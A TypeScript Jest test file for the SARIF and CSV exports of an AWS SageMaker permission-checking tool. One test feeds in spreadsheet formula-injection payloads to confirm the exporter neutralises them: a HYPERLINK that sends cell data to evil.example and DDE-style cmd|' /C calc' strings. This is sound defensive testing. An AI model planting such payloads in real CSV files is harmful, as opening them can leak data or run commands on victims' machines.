/** SARIF and CSV exports: valid SARIF 2.1.0, every finding code a rule, RFC 4180 CSV that no spreadsheet runs as a formula. */
import '@microsoft/jest-sarif';
import type { Log } from 'sarif';
import { finding } from '../../shared/core';
import { FINDING_CODES } from '../../shared/core/findings';
import { renderCsv } from '../../shared/core/report-csv';
import { findingSetOfAuthor, findingSetOfReport, type FindingSet } from '../../shared/core/report-export';
import { renderSarif, SARIF_LEVEL } from '../../shared/core/report-sarif';
import type { Report } from '../../shared/core/types';

const EXEC = 'arn:aws:iam::111122223333:role/service-role/LabelingExecution';
const PRE = 'arn:aws:lambda:us-east-1:111122223333:function:pre';
const JOB_ARN = 'arn:aws:sagemaker:us-east-1:111122223333:labeling-job/receipts-7';

function reportWith(
  name: string,
  findings: Report['findings'],
  outcome: Report['outcome'] = 'proposed',
): Report {
  return {
    job: {
      name,
      account: '111122223333',
      region: 'us-east-1',
      executionRoleArn: EXEC,
      preAnnotationLambdaArn: PRE,
      postAnnotationLambdaArn: null,
      outputS3Uri: 's3://bucket/out/',
    },
    outcome,
    dryRun: true,
    findings,
    changes: [],
  };
}

/** A report holding one finding of every code. */
const everyCode = (): FindingSet =>
  findingSetOfReport(
    reportWith(
      'Receipts-7',
      FINDING_CODES.map((code, i) => finding(code, EXEC, PRE, 'implicit-deny', i % 2 === 0, `detail ${i}`)),
      'blocked',
    ),
  );

const sarifOf = (sets: FindingSet[]): Log => JSON.parse(renderSarif(sets, { toolVersion: '9.9.9' })) as Log;

describe('SARIF export', () => {
  it('is a valid SARIF 2.1.0 log (official schema), with findings, a compliant job and a failed check', () => {
    const failed: FindingSet = {
      ...everyCode(),
      outcome: 'error',
      findings: [],
      notes: ['SageMaker said no'],
    };
    const compliant = findingSetOfReport(reportWith('ok-job', [], 'compliant'));
    const log = sarifOf([everyCode(), compliant, failed]);
    expect(log).toBeValidSarifLog();
    expect(log.runs[0]?.results).toHaveLength(FINDING_CODES.length);
    expect(log.runs[0]?.invocations?.[0]).toMatchObject({
      executionSuccessful: false,
      toolExecutionNotifications: [{ level: 'error', message: { text: 'Receipts-7: SageMaker said no' } }],
    });
  });

  it('would be caught by the schema check if it were wrong (the validator is not vacuous)', () => {
    const log = sarifOf([everyCode()]);
    const broken = { ...log, runs: [{ ...log.runs[0], results: [{ ruleId: 'X', level: 'critical' }] }] };
    expect(broken).not.toBeValidSarifLog();
  });

  it('has every finding code as a rule with help text, its severity as the default level, and the fix', () => {
    const rules = sarifOf([]).runs[0]?.tool.driver.rules ?? [];
    expect(rules.map((r) => r.id).sort()).toEqual([...FINDING_CODES].sort());
    for (const rule of rules) {
      expect(rule.help?.text).toMatch(/\w.* Fix: /);
      expect(rule.shortDescription?.text).toMatch(new RegExp(`^${rule.id}: [<\\w]`));
      expect(rule.fullDescription?.text).not.toMatch(/undefined/);
    }
    const invoke = rules.find((r) => r.id === 'INVOKE_DENIED');
    expect(invoke?.defaultConfiguration?.level).toBe('error');
    expect(rules.find((r) => r.id === 'EXECUTION_ROLE_EXCEEDS_ENVELOPE')?.defaultConfiguration?.level).toBe(
      'note',
    );
  });

  it('points each result at the job ARN, the role and the function, with the level of its severity and the fix', () => {
    const set = findingSetOfReport(
      reportWith('Receipts-7', [finding('INVOKE_DENIED', EXEC, PRE, 'implicit-deny', true)]),
    );
    const [result] = sarifOf([set]).runs[0]?.results ?? [];
    expect(result).toMatchObject({ ruleId: 'INVOKE_DENIED', level: SARIF_LEVEL.high, ruleIndex: 0 });
    expect(result?.locations?.[0]?.logicalLocations?.map((l) => l.fullyQualifiedName)).toEqual([
      JOB_ARN,
      EXEC,
      PRE,
    ]);
    expect(result?.message.text).toBe(
      `the execution role may not invoke ${PRE}. Reason: implicit-deny (no policy allows it). Fix: automatic: the remediator grants exactly this (see the proposed changes; \`fix --live\` applies them).`,
    );
    expect(result?.partialFingerprints).toEqual({
      'gtFinding/v1': `${JOB_ARN}|INVOKE_DENIED|${EXEC}|${PRE}`,
    });
  });

  it('locates an author finding at the principal', () => {
    const set = findingSetOfAuthor({
      principal: { arn: 'arn:aws:iam::111122223333:user/ana' },
      scope: { accountId: '111122223333', region: 'eu-west-1' },
      outcome: 'blocked',
      findings: [
        finding('AUTHOR_CANNOT_CREATE_JOB', 'arn:aws:iam::111122223333:user/ana', '', 'implicit-deny'),
      ],
    });
    const log = sarifOf([set]);
    expect(log).toBeValidSarifLog();
    expect(log.runs[0]?.results?.[0]?.locations?.[0]?.logicalLocations).toEqual([
      {
        fullyQualifiedName: 'arn:aws:iam::111122223333:user/ana',
        name: 'arn:aws:iam::111122223333:user/ana',
        kind: 'resource',
      },
    ]);
  });
});

describe('CSV export', () => {
  const HEADER = 'account,region,job,code,severity,principal,resource,outcome,fixable,reason,detail';

  it('has a header and one row per finding; a job without findings is one row with its outcome', () => {
    const csv = renderCsv([
      findingSetOfReport(
        reportWith('receipts-7', [finding('INVOKE_DENIED', EXEC, PRE, 'implicit-deny', true)]),
      ),
      findingSetOfReport(reportWith('ok-job', [], 'compliant')),
    ]);
    expect(csv.split('\r\n')).toEqual([
      HEADER,
      `111122223333,us-east-1,receipts-7,INVOKE_DENIED,high,${EXEC},${PRE},proposed,true,implicit-deny,`,
      '111122223333,us-east-1,ok-job,,,,,compliant,,,',
      '',
    ]);
  });

  it('quotes commas and quotes as RFC 4180 says, and keeps each row on one line', () => {
    const detail = 'a, "quoted"\nsecond line';
    const csv = renderCsv([
      findingSetOfReport(
        reportWith('job', [finding('POLICY_UNKNOWN', EXEC, 'p,1', 'unevaluable', false, detail)]),
      ),
    ]);
    expect(csv).toContain(`,"p,1",proposed,false,unevaluable,"a, ""quoted""\\u000asecond line"\r\n`);
    expect(csv.split('\r\n')).toHaveLength(3);
  });

  it('turns the attacker-chosen job name, ARNs and details into text no spreadsheet runs as a formula', () => {
    // The job's creator picks the job name, the function and role names and the output path.
    const name = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const csv = renderCsv([
      findingSetOfReport(
        reportWith(name, [
          finding(
            'INVOKE_DENIED',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            'implicit-deny',
            false,
            '-2+3',
          ),
          finding('POLICY_UNKNOWN', '\tTAB', '\r=1', 'unevaluable', false, '\uFF1D1+1'),
        ]),
      ),
    ]);
    const cells = csv.split('\r\n').slice(1, 3).join('\n');
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(cells).toContain(`'+1+cmd|' /C calc'!A0`);
    expect(cells).toContain(`,'-2+3`);
    // Tab and CR, which some spreadsheets strip before a formula, are shown escaped.
    expect(cells).toContain(`,\\u0009TAB,\\u000d=1,`);
    expect(cells).toContain(`,'\uFF1D1+1`);
    // No cell (quoted or not) starts with a formula character.
    for (const line of csv.split('\r\n').slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@\uFF1D]/);
  });

  it('shows terminal control characters escaped, as the text report does', () => {
    const csv = renderCsv([findingSetOfReport(reportWith('job\u001b[31mred', []))]);
    expect(csv).toContain('job\\u001b[31mred');
    expect(csv).not.toContain('\u001b');
  });
});
